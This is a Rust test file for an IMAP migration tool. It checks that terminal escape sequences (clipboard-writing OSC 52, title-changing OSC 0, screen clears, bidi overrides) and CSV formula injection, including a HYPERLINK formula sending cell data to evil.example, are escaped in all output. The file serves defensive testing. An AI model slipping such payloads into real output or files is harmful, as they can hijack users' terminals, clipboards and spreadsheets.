//! Escape sequences from servers never reach the operator's terminal, the Markdown report or
//! the CSVs raw: folder names (listed by a real Dovecot) and a server's NO text (Dovecot's,
//! rewritten on the wire by the fault proxy) carrying OSC 52 (clipboard write), OSC 0 (window
//! title), `ESC[2J`, a C1 CSI, DEL and bidi overrides, through every command that prints them;
//! and spreadsheet formulas neutralised in both CSVs. The control socket refuses a batch name
//! it does not know or one with control characters, without echoing it raw.

use crate::support;

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use support::fault_proxy::{Action, Dir, Fault, FaultProxy, Trigger};
use support::*;

fn tmp() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("cutover-tsafe")
        .tempdir()
        .unwrap()
}

/// C0 escapes: the destination Dovecot refuses to CREATE this one.
const FOLDER_C0: &str = "Osc \x1b]52;c;aGk=\x07 Clear \x1b[2J Title \x1b]0;pwned\x07";
/// C1, bidi and DEL: the destination Dovecot creates it.
const FOLDER_C1: &str = "Csi \u{9b}2J Bidi \u{202e}fdp.exe \u{2066}iso\u{2069} Del\x7f";
/// What the proxy appends to Dovecot's LOGIN refusal.
const NO_TAIL: &str = " \x1b]52;c;bm8=\x07\x1b]0;hijacked\x07\x1b[2J\u{9b}0m \u{202e}txt.exe";

/// Whether `c` may appear in output raw: tab, newline, and nothing else below U+0020; no
/// DEL, no C1, no bidi embedding/override/isolate. (Written out here, independently of
/// `cutover_engine::safe_text`.)
fn raw_danger(c: char) -> bool {
    let n = c as u32;
    (n < 0x20 && c != '\t' && c != '\n')
        || (0x7f..=0x9f).contains(&n)
        || (0x202a..=0x202e).contains(&n)
        || (0x2066..=0x2069).contains(&n)
}

/// `what` holds no dangerous character (a CSV's CRLF line ends aside).
fn assert_clean(what: &str, bytes: &[u8]) {
    let s = String::from_utf8_lossy(bytes).replace("\r\n", "\n");
    if let Some((i, c)) = s.char_indices().find(|(_, c)| raw_danger(*c)) {
        let from = s[..i].char_indices().rev().nth(60).map_or(0, |(j, _)| j);
        panic!(
            "{what}: raw U+{:04X} at byte {i}, after {:?}\n--- whole output:\n{s}",
            c as u32,
            &s[from..i]
        );
    }
}

/// How `s` looks once escaped: `\x1b`-style for C0 and DEL, `\u{..}` above. A server text
/// that went through Rust's `Debug` on its way (async-imap's NO errors) shows `\u{1b}`
/// instead; both are visible and inert.
fn shown(s: &str, debug: bool) -> String {
    s.chars()
        .map(|c| {
            let n = c as u32;
            if !raw_danger(c) {
                c.to_string()
            } else if n < 0x80 && !debug {
                format!("\\x{n:02x}")
            } else {
                format!("\\u{{{n:x}}}")
            }
        })
        .collect()
}

/// Markdown escapes of link, image and code syntax (applied before [`shown`]).
fn md(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '[' | ']' | '`' | '|' | '\\' => format!("\\{c}"),
            c => c.to_string(),
        })
        .collect()
}

fn both(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn check_output(what: &str, o: &Output) {
    assert_clean(&format!("{what} stdout"), &o.stdout);
    assert_clean(&format!("{what} stderr"), &o.stderr);
    assert!(
        o.status.code().is_some_and(|c| c != 101 && c != 1),
        "{what}: exit {:?}\n{}",
        o.status.code(),
        text(o)
    );
}

/// The NO text as the operator sees it: the escaped tail, whichever escaping it went through.
fn shows_no_text(out: &str) -> bool {
    [shown(NO_TAIL, false), shown(NO_TAIL, true)]
        .iter()
        .any(|t| out.contains(t.as_str()))
}

/// Modified UTF-7 (RFC 3501 5.1.3): printable ASCII as itself (`&` as `&-`), everything else
/// as `&` + modified base64 of UTF-16 + `-`.
fn mutf7(s: &str) -> String {
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+,";
    let mut out = String::new();
    let mut run: Vec<u16> = Vec::new();
    let flush = |run: &mut Vec<u16>, out: &mut String| {
        if run.is_empty() {
            return;
        }
        let bytes: Vec<u8> = run.iter().flat_map(|u| u.to_be_bytes()).collect();
        out.push('&');
        for c in bytes.chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for k in 0..=c.len() {
                out.push(B64[((n >> (18 - 6 * k)) & 63) as usize] as char);
            }
        }
        out.push('-');
        run.clear();
    };
    for c in s.chars() {
        if (' '..='~').contains(&c) {
            flush(&mut run, &mut out);
            if c == '&' {
                out.push_str("&-");
            } else {
                out.push(c);
            }
        } else {
            run.extend(c.encode_utf16(&mut [0; 2]).iter());
        }
    }
    flush(&mut run, &mut out);
    out
}

/// Put a folder named `name` straight into `user`'s Maildir (layout fs, the name in modified
/// UTF-7 as Dovecot keeps it), with one message of about `size` bytes unless `size` is 0:
/// Dovecot lists it as it is, although it refuses to CREATE a name with C0 controls.
fn add_folder(d: &Dovecot, user: &str, name: &str, subject: &str, size: usize) {
    let dir = d
        .dir
        .join("mail")
        .join(user)
        .join("Maildir")
        .join(mutf7(name));
    for sub in ["cur", "new", "tmp"] {
        std::fs::create_dir_all(dir.join(sub)).unwrap();
    }
    if size > 0 {
        let msg = format!(
            "From: x@example.com\nTo: {user}@example.com\nSubject: {subject}\nMessage-ID: <{subject}@test>\nDate: Mon, 1 Jan 2024 10:00:00 +0000\n\n{}\n",
            "body line\n".repeat(size / 10)
        );
        std::fs::write(
            dir.join("new").join(format!("1700000000.{subject}.host")),
            msg,
        )
        .unwrap();
    }
    let out = Command::new(support_dir().join("dovecot-instance.sh"))
        .arg("fix-perms")
        .arg(&d.dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A project with alice (whose source has the two hostile folders) in batch `=HYPERLINK(..)`
/// and bob (a wrong password: the source's refusal comes back with `NO_TAIL`) in batch
/// `@SUM(1+1)`; the source behind a proxy that rewrites Dovecot's refusal text.
struct Fixture {
    _src: Dovecot,
    _dst: Dovecot,
    _proxy: FaultProxy,
    p: ProjectDir,
    // Last: fields drop in order, and the servers' directories must outlive their
    // stop (a Dovecot whose directory is gone is never stopped).
    _root: tempfile::TempDir,
}

const BATCH_A: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";
const BATCH_B: &str = "@SUM(1+1)";

fn fixture() -> Fixture {
    let root = tmp();
    let users = [("alice", "alice-pw"), ("bob", "bob-pw")];
    let src = Dovecot::start(root.path(), "src", &users, &[]);
    // bob's (wrong) source password is his destination one: only the source refuses him
    // (both sides log in at once), with the NO text the proxy rewrites.
    let dst = Dovecot::start(
        root.path(),
        "dst",
        &[("alice", "alice-pw"), ("bob", "wrong-pw")],
        &[],
    );
    // A few ordinary messages, and one per hostile folder; the one in FOLDER_C1 is over the
    // destination's max_message_size, so an `oversize` issue names that folder.
    src.seed("alice", 3, 7, &["--no-tricky"]);
    add_folder(&src, "alice", FOLDER_C0, "c0", 200);
    add_folder(&src, "alice", FOLDER_C1, "c1", 8000);
    // Dovecot refuses to CREATE FOLDER_C0: the destination has it already (empty).
    add_folder(&dst, "alice", FOLDER_C0, "", 0);
    let to: &'static str = Box::leak(format!("Authentication failed.{NO_TAIL}").into_boxed_str());
    let proxy = FaultProxy::start(
        src.port,
        vec![
            Fault::new(
                Dir::Down,
                Trigger::Bytes(0),
                Action::Rewrite("Authentication failed.", to),
            )
            .times(usize::MAX),
        ],
    );
    // Batch names as a customer's mailbox export could carry them.
    let p = ProjectBuilder::imap(&src, &dst)
        .mailboxes(&[
            MailboxLine {
                batch: BATCH_A,
                user: "alice",
                pass: "alice-pw",
            },
            MailboxLine {
                batch: BATCH_B,
                user: "bob",
                pass: "wrong-pw",
            },
        ])
        .set("source.port", proxy.port)
        .set("destination.max_message_size", "6 KiB")
        .create();
    Fixture {
        _root: root,
        _src: src,
        _dst: dst,
        _proxy: proxy,
        p,
    }
}

/// Every value of column `col` of a CSV file, read by the csv crate.
fn csv_column(path: &Path, col: &str) -> Vec<String> {
    let mut r = csv::Reader::from_path(path).unwrap();
    let i = r
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == col)
        .unwrap_or_else(|| panic!("no column {col} in {}", path.display()));
    r.records().map(|x| x.unwrap()[i].to_string()).collect()
}

#[test]
fn every_command_shows_server_escapes_escaped() {
    let f = fixture();
    let p = &f.p;
    let dir = p.dir.path();

    let check = p.cutover(&["check"]);
    check_output("check", &check);

    let plan = p.cutover(&["plan"]);
    check_output("plan", &plan);
    let out = both(&plan);
    for name in [FOLDER_C0, FOLDER_C1] {
        assert!(out.contains(&shown(name, false)), "plan: {name:?}\n{out}");
    }
    assert!(shows_no_text(&out), "plan: the NO text\n{out}");

    let assess_csv = dir.join("assess.csv");
    let assess = p.cutover(&["assess", "--csv", assess_csv.to_str().unwrap()]);
    check_output("assess", &assess);
    let out = both(&assess);
    assert!(out.contains(&shown(FOLDER_C1, false)), "assess\n{out}");
    assert!(shows_no_text(&out), "assess: the NO text\n{out}");
    let bytes = std::fs::read(&assess_csv).unwrap();
    assert_clean("assess CSV", &bytes);
    assert!(
        shows_no_text(&String::from_utf8_lossy(&bytes)),
        "assess CSV: the NO text\n{}",
        String::from_utf8_lossy(&bytes)
    );
    let mut batches = csv_column(&assess_csv, "batch");
    batches.sort();
    assert_eq!(batches, [format!("'{BATCH_A}"), format!("'{BATCH_B}")]);

    let run = p.cutover(&["run"]);
    check_output("run", &run);
    let out = both(&run);
    for name in [FOLDER_C0, FOLDER_C1] {
        assert!(out.contains(&shown(name, false)), "run: {name:?}\n{out}");
    }
    assert!(shows_no_text(&out), "run: the NO text\n{out}");

    let verify = p.cutover(&["verify"]);
    check_output("verify", &verify);
    let out = both(&verify);
    assert!(out.contains(&shown(FOLDER_C1, false)), "verify\n{out}");
    assert!(shows_no_text(&out), "verify: the NO text\n{out}");

    // What cutover wrote for alice, from the journal (destination names as on the wire).
    let rollback = p.cutover(&["rollback", "--batch", BATCH_A, "--dry-run"]);
    check_output("rollback --dry-run", &rollback);
    assert!(both(&rollback).contains("Csi "), "{}", text(&rollback));
    let failback = p.cutover(&["failback", "--mailbox", "alice", "--dry-run"]);
    check_output("failback --dry-run", &failback);
    assert!(both(&failback).contains("Csi "), "{}", text(&failback));

    // Reports, to stdout and to files.
    for kind in ["daily", "final"] {
        for format in ["md", "html", "csv"] {
            let o = p.cutover(&["report", "--kind", kind, "--format", format]);
            check_output(&format!("report {kind} {format}"), &o);
        }
    }
    let md_path = dir.join("final.md");
    let o = p.cutover(&[
        "report",
        "--kind",
        "final",
        "--out",
        md_path.to_str().unwrap(),
    ]);
    check_output("report final md --out", &o);
    let report = std::fs::read(&md_path).unwrap();
    assert_clean("final.md", &report);
    let report = String::from_utf8_lossy(&report);
    assert!(
        report.contains(&shown(&md(FOLDER_C1), false)),
        "final.md: the folder of the oversize message\n{report}"
    );
    assert!(
        // Markdown escapes first, then control characters; a text that came through
        // `Debug` already has its `\u{1b}` as plain text, whose backslash Markdown escapes.
        [shown(&md(NO_TAIL), false), md(&shown(NO_TAIL, true))]
            .iter()
            .any(|t| report.contains(t.as_str())),
        "final.md: the NO text\n{report}"
    );
    // No link or image syntax survives from the data: every `[` and `]` is escaped.
    assert!(
        !report
            .replace("\\[", "")
            .replace("\\]", "")
            .contains(['[', ']']),
        "{report}"
    );

    let csv_path = dir.join("final.csv");
    let o = p.cutover(&[
        "report",
        "--kind",
        "final",
        "--format",
        "csv",
        "--out",
        csv_path.to_str().unwrap(),
    ]);
    check_output("report final csv --out", &o);
    let bytes = std::fs::read(&csv_path).unwrap();
    assert_clean("final.csv", &bytes);
    let batches = csv_column(&csv_path, "Batch");
    for b in [BATCH_A, BATCH_B] {
        assert!(batches.contains(&format!("'{b}")), "{b}: {batches:?}");
    }
    let errors = csv_column(&csv_path, "LastError").join("\n");
    assert!(shows_no_text(&errors), "final.csv LastError: {errors}");
}

/// The engine's control socket (next to the journal).
fn socket(p: &ProjectDir) -> PathBuf {
    p.dir.path().join("state.sqlite.ctl")
}

fn ask(sock: &Path, line: &str) -> Vec<u8> {
    let mut s = UnixStream::connect(sock).unwrap();
    s.write_all(format!("{line}\n").as_bytes()).unwrap();
    let mut reply = Vec::new();
    BufReader::new(s).read_until(b'\n', &mut reply).unwrap();
    reply
}

#[test]
fn control_socket_refuses_unknown_and_control_batch_names_without_echoing_them() {
    let root = tmp();
    let users = [("carol", "carol-pw")];
    let src = Dovecot::start(root.path(), "src", &users, &[]);
    let dst = Dovecot::start(root.path(), "dst", &users, &[]);
    src.seed("carol", 20, 3, &["--no-tricky"]);
    // The source holds its first EXAMINE reply for a while: the engine keeps the socket open.
    let proxy = FaultProxy::start(
        src.port,
        vec![Fault::new(
            Dir::Down,
            Trigger::ClientSent(" EXAMINE ".into()),
            Action::Stall(Duration::from_secs(8)),
        )],
    );
    let p = ProjectBuilder::imap(&src, &dst)
        .mailboxes(&[MailboxLine {
            batch: "pilot",
            user: "carol",
            pass: "carol-pw",
        }])
        .set("source.port", proxy.port)
        .create();
    let run = Command::new(bin())
        .arg("run")
        .arg(&p.path)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let end = Instant::now() + Duration::from_secs(20);
    while !socket(&p).exists() || proxy.fired() != [1] {
        assert!(
            Instant::now() < end,
            "the run never reached its first EXAMINE"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let sock = socket(&p);

    let r = ask(&sock, "stop\tmallory\tpilot\x1b]0;evil\x07");
    assert_clean("reply (control characters)", &r);
    let r = String::from_utf8_lossy(&r);
    assert!(r.starts_with("error refused"), "{r}");
    assert!(r.contains("pilot\\x1b]0;evil\\x07"), "{r}");

    let r = ask(&sock, "stop\tmallory\tpilot\u{202e}");
    assert_clean("reply (bidi)", &r);
    assert!(
        String::from_utf8_lossy(&r).contains("pilot\\u{202e}"),
        "{}",
        String::from_utf8_lossy(&r)
    );

    let r = ask(&sock, "stop\tmallory\tnosuch");
    let r = String::from_utf8_lossy(&r);
    assert!(
        r.starts_with("error no batch \"nosuch\" in this project (its batches: pilot)"),
        "{r}"
    );

    let o = p.cutover(&["stop", "--batch", "nosuch\x1b[2J"]);
    check_output("stop --batch", &o);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    assert!(
        both(&o).contains("no batch \"nosuch\\x1b[2J\""),
        "{}",
        text(&o)
    );

    // None of these stopped anything: the engine still answers, not stopped.
    let r = String::from_utf8_lossy(&ask(&sock, "status")).to_string();
    assert!(r.contains("stopped=false"), "{r}");
    let o = run.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(!both(&o).contains("emergency stop"), "{}", text(&o));
}

#[test]
fn the_test_encoder_writes_modified_utf7() {
    // Reference values from an independent encoder (Python, RFC 3501 5.1.3).
    assert_eq!(
        mutf7(FOLDER_C1),
        "Csi &AJs-2J Bidi &IC4-fdp.exe &IGY-iso&IGk- Del&AH8-"
    );
    assert_eq!(
        mutf7(FOLDER_C0),
        "Osc &ABs-]52;c;aGk=&AAc- Clear &ABs-[2J Title &ABs-]0;pwned&AAc-"
    );
    assert_eq!(mutf7("a&b ~"), "a&-b ~");
}
